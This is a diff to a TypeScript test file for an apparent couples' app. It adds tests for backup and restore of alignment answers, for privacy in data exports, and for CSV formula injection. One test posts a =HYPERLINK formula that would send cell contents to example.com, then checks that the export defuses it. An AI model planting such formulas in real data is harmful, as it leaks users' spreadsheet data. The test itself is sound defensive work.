@@ -1,9 +1,11 @@
 import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { parse } from 'csv-parse/sync';
 import { sql } from 'kysely';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { exportCommand, restoreCommand } from '../../src/cli/export.ts';
+import { addDays, localDate } from '../../src/dates.ts';
 import { BackupError, backupCouple, restoreBackup, serializeBackup } from '../../src/export/backup.ts';
 import { COUPLE_TABLES } from '../../src/export/tables.ts';
 import { buildApp } from '../../src/server/app.ts';
@@ -43,6 +45,34 @@ async function populate(store: Fresh) {
     promiseDue: today(),
     visibility: 'shared',
   });
+  // Alignment: a revealed round with a metric from its reveal, and a sealed draft of A's.
+  const answer = (text: string) => ({
+    optimizingFor: text,
+    successMeans: 'Same team ✨',
+    rewardsSought: 'Being seen',
+    rewards: ['Touch', 'Praise'],
+    harmonyAuthenticity: 30,
+    independenceConnection: 70,
+    growthStability: 50,
+    familyCareer: 40,
+    domains: ['communication', 'money_chores'],
+  });
+  const round = (await a.post('/api/alignment/rounds', { quarter: '2025-Q1' })).json().id;
+  for (const [who, text] of [
+    [a, 'REVEALED-OF-A'],
+    [b, 'REVEALED-OF-B'],
+  ] as const) {
+    await who.patch(`/api/alignment/rounds/${round}/answer`, answer(text));
+    await who.post(`/api/alignment/rounds/${round}/submit`);
+  }
+  await b.post(`/api/alignment/rounds/${round}/metrics`, {
+    name: 'Same team',
+    scaleMin: 0,
+    scaleMax: 10,
+    better: 'higher',
+  });
+  const sealed = (await a.post('/api/alignment/rounds', { quarter: '2025-Q2' })).json().id;
+  await a.patch(`/api/alignment/rounds/${sealed}/answer`, answer('SEALED-OF-A'));
   return { a, b, coupleId, app };
 }
 
@@ -66,6 +96,7 @@ describe('backup and restore', () => {
     await source.close();
     const first = serializeBackup(await backupCouple(sqliteA.db, coupleId));
     expect(first).toContain('Dishes 🍽️ “again”');
+    expect(first).toContain('SEALED-OF-A');
 
     await restoreBackup(postgres.db, JSON.parse(first));
     const second = serializeBackup(await backupCouple(postgres.db, coupleId));
@@ -148,6 +179,8 @@ describe('download my data', () => {
       ['Dishes 🍽️ “again”', 'Sorry — ça va?', 'call mum'].sort(),
     );
     expect(body).not.toContain('PRIVATE-OF-A');
+    expect(body).not.toContain('SEALED-OF-A'); // A's sealed alignment draft
+    expect(body).toContain('REVEALED-OF-A'); // a revealed answer is shared
     expect(body).not.toContain('password_hash');
     expect(body).not.toContain('code_hash');
     const csv = await b.get('/api/export/log.csv');
@@ -158,6 +191,67 @@ describe('download my data', () => {
       n: number;
     }>`select count(*) as n from log where text like 'PRIVATE-OF-A%'`.execute(store.db);
     expect(Number(count.rows[0]!.n)).toBe(1); // the private entry exists; it just is not B's to export
+    await app.close();
+  });
+
+  it('shows links only to entries I may see: no id of my partner’s private entry in any export', async () => {
+    const { a, b, app } = await populate(store);
+    // A shared repair of A's private conflict: B sees the repair, never the conflict's id.
+    const conflict = (
+      await a.post('/api/log', { kind: 'conflict', date: today(), text: 'mine alone', visibility: 'private' })
+    ).json();
+    const repair = (
+      await a.post('/api/log', {
+        kind: 'repair',
+        date: today(),
+        text: 'We talked it through',
+        repairOf: conflict.id,
+        visibility: 'shared',
+      })
+    ).json();
+    expect((await b.get(`/api/log/${repair.id}`)).json().repairOf).toBeNull();
+    // B thanks A for a check-off, then makes that thanks private: A no longer sees its id.
+    const day = addDays(localDate('America/New_York'), -1);
+    const habit = (
+      await a.post('/api/habits', {
+        cue: 'After I pour the coffee',
+        action: 'I ask how she slept',
+        owner: 'me',
+        domain: 'communication',
+        schedule: { kind: 'daily' },
+        startDate: day,
+      })
+    ).json();
+    expect((await a.post(`/api/habits/${habit.id}/checkoffs`, { date: day })).statusCode).toBe(201);
+    const thanks = (await b.post(`/api/habits/${habit.id}/checkoffs/${day}/appreciate`)).json();
+    expect((await b.patch(`/api/log/${thanks.logEntryId}`, { visibility: 'private' })).statusCode).toBe(200);
+
+    const ofB = await b.get('/api/export');
+    expect(ofB.body).not.toContain(conflict.id);
+    const shared = ofB.json().tables.log.find((r: { id: string }) => r.id === repair.id);
+    expect(shared).toMatchObject({ text: 'We talked it through', repair_of: null });
+    expect((await b.get('/api/export/log.csv')).body).not.toContain(conflict.id);
+    const ofA = await a.get('/api/export');
+    expect(ofA.body).not.toContain(thanks.logEntryId);
+    expect(ofA.json().tables.habit_checkoffs).toEqual([
+      expect.objectContaining({ habit_id: habit.id, appreciation_id: null }),
+    ]);
+    // Their own links stay whole.
+    expect((await a.get('/api/export')).json().tables.log).toContainEqual(
+      expect.objectContaining({ id: repair.id, repair_of: conflict.id }),
+    );
+    expect((await a.get('/api/export/log.csv')).body).toContain(conflict.id);
+    await app.close();
+  });
+
+  it('gives no live formula in log.csv: a partner’s "=HYPERLINK(…)" arrives as text', async () => {
+    const { a, b, app } = await populate(store);
+    const formula = '=HYPERLINK("https://example.com/?q="&A1,"click me")';
+    await a.post('/api/log', { kind: 'note', date: today(), text: formula, visibility: 'shared' });
+    const csv = (await b.get('/api/export/log.csv')).body;
+    const cells = (parse(csv) as string[][]).flat();
+    expect(cells).toContain(`'${formula}`);
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
     await app.close();
   });
 });
